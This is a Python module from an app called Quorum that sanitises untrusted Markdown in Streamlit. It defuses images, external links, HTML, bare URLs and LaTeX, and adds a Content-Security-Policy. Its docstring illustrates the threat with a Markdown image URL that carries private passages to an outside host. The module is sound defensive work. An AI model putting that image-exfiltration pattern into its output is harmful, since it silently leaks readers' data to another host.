"""Rendering text Quorum does not control: answers, documents, transcripts, minutes,
feedback, file names. Streamlit renders Markdown, so such text could otherwise make the
reader's browser fetch `![x](https://host/?q=<private passages>)` the moment it is shown, or
offer a link that carries data away. Every page shows untrusted text through these helpers:

- markdown(): keeps the formatting (bold, lists, tables, code) but turns images into their
  alt text, external links into "text (host)", and defuses HTML, autolinks, bare URLs
  and LaTeX; links to Quorum's own pages (relative URLs) stay;
- plain(): the text shown literally, for labels, help tooltips, captions and messages.

A Content-Security-Policy (content_security_policy()) backs them up in the browser.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from urllib.parse import urlsplit

import streamlit as st

# Images load by themselves; links, autolinks and URLs only when clicked, but a click must
# not carry a reader's data to another host either.
_IMAGE = re.compile(r"!\[((?:[^\[\]\\]|\\.)*)\]\(([^()\s]*(?:\([^()\s]*\)[^()\s]*)*)(?:\s+[\"'(][^\n]*?[\"')])?\s*\)")
_LINK = re.compile(
    r"\[((?:[^\[\]\\]|\\.)*)\]\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?(?:\s+[\"'(][^\n]*?[\"')])?\s*\)"
)
_IMAGE_PLACEHOLDER = re.compile("\ue000(\\d+)\ue001")
_REFERENCE_DEFINITION = re.compile(r"^( {0,3})\[([^\]\n]+)\]:", re.MULTILINE)
# What GitHub-flavoured Markdown turns into a link by itself: scheme://..., www....
_BARE_URL = re.compile(r"(?i)\b(?:[a-z][a-z0-9+.-]{1,20}://|www\.)[^\s<>`]*")
_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})[^\n]*\n.*?(?:^ {0,3}\2[`~]*[ \t]*$|\Z)", re.MULTILINE | re.DOTALL)
_CODE_SPAN = re.compile(r"(`+)(?!`).+?(?<!`)\1(?!`)", re.DOTALL)
# Every ASCII punctuation character CommonMark lets a backslash escape.
_MARKDOWN_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>$~:\"'&=^@%;,/?])")

CONTENT_SECURITY_POLICY = (
    "img-src 'self' data: blob:; media-src 'self' data: blob:; font-src 'self' data:; "
    "frame-src 'self' data: blob:; object-src 'none'; base-uri 'self'; form-action 'self'"
)


def _host(url: str) -> str:
    try:
        host = urlsplit(url.strip()).hostname or ""
    except ValueError:
        host = ""
    return host[:80]


def _is_own(url: str) -> bool:
    """A link to one of Quorum's own pages: a relative path, query or fragment."""
    url = url.strip()
    return url.startswith(("/", "?", "#")) and not url.startswith("//") and "\\" not in url


def _defuse(text: str) -> str:
    """Markdown outside code: no image, no external link, no HTML, no autolink, no LaTeX."""
    # Images become placeholders first (private-use characters no escaping touches), so
    # their alt text is escaped once and cannot pair with what follows into a link.
    images: list[str] = []

    def image(match: re.Match[str]) -> str:
        images.append(f"\\[image: {plain(match.group(1)) or 'no description'}\\]")
        return f"\ue000{len(images) - 1}\ue001"

    text = _IMAGE.sub(image, text.replace("\ue000", "").replace("\ue001", ""))

    def link(match: re.Match[str]) -> str:
        label, url = match.group(1), match.group(2)
        if _is_own(url):
            return f"[{_without_bare_urls(label, _defuse_inline)}]({url})"
        host = _host(url)
        return _without_bare_urls(label, _defuse_inline) + (f" ({plain(host)})" if host else "")

    parts = []
    position = 0
    for match in _LINK.finditer(text):
        parts.append(_without_bare_urls(text[position : match.start()], _defuse_inline))
        parts.append(link(match))
        position = match.end()
    parts.append(_without_bare_urls(text[position:], _defuse_inline))
    return _IMAGE_PLACEHOLDER.sub(lambda m: images[int(m.group(1))], "".join(parts))


def _defuse_inline(text: str) -> str:
    """Text between links: whatever could still start an image, a link, HTML or math is
    escaped, so it shows as written."""
    text = text.replace("\\", "\\\\")
    text = text.replace("<", "\\<").replace(">", "\\>").replace("$", "\\$")
    text = text.replace("![", "\\![").replace("](", "]\\(").replace("][", "]\\[")
    return _REFERENCE_DEFINITION.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", text)


def _code_span(url: str) -> str:
    """A bare URL as inline code: readable and copyable, but never made a link. Trailing
    punctuation (and a closing parenthesis it did not open) stays outside, as prose."""
    core = url.rstrip(".,;:!?")
    if core.endswith(")") and "(" not in core:
        core = core[:-1]
    return f"`{core}`" + _defuse_inline(url[len(core) :])


def _without_bare_urls(text: str, escape: Callable[[str], str]) -> str:
    """`escape` applied around the bare URLs in `text`, which become inline code."""
    out: list[str] = []
    position = 0
    for match in _BARE_URL.finditer(text):
        out.append(escape(text[position : match.start()]))
        out.append(_code_span(match.group(0)))
        position = match.end()
    out.append(escape(text[position:]))
    return "".join(out)


def markdown(text: str | None) -> str:
    """`text` as Markdown that keeps its formatting but cannot load or link anything outside
    Quorum. Code spans and fenced blocks are kept as they are: nothing in them renders."""
    if not text:
        return ""
    out: list[str] = []
    position = 0
    for fence in _FENCE.finditer(text):
        out.append(_outside_fences(text[position : fence.start()]))
        out.append(fence.group(0))
        position = fence.end()
    out.append(_outside_fences(text[position:]))
    return "".join(out)


def _outside_fences(text: str) -> str:
    out: list[str] = []
    position = 0
    for span in _CODE_SPAN.finditer(text):
        out.append(_defuse(text[position : span.start()]))
        out.append(span.group(0))
        position = span.end()
    out.append(_defuse(text[position:]))
    return "".join(out)


def plain(text: str | None) -> str:
    """`text` shown literally wherever Streamlit renders Markdown (labels, help tooltips,
    captions, messages): every Markdown character escaped, line breaks kept."""
    if not text:
        return ""
    return _without_bare_urls(str(text), lambda piece: _MARKDOWN_PUNCTUATION.sub(r"\\\1", piece))


def content_security_policy() -> None:
    """Add Quorum's Content-Security-Policy to the page once per browser tab: images, media,
    fonts and frames only from Quorum itself. Streamlit cannot set response headers, so a
    <meta> element is added to the document head; a reverse proxy should also send it as a
    header (README, Security)."""
    st.html(
        f"""<script>
        (function () {{
          const head = window.parent.document.head || document.head;
          if (head.querySelector('meta[data-quorum-csp]')) return;
          const meta = document.createElement('meta');
          meta.httpEquiv = 'Content-Security-Policy';
          meta.content = "{CONTENT_SECURITY_POLICY}";
          meta.setAttribute('data-quorum-csp', '1');
          head.prepend(meta);
        }})();
        </script>""",
        unsafe_allow_javascript=True,
    )
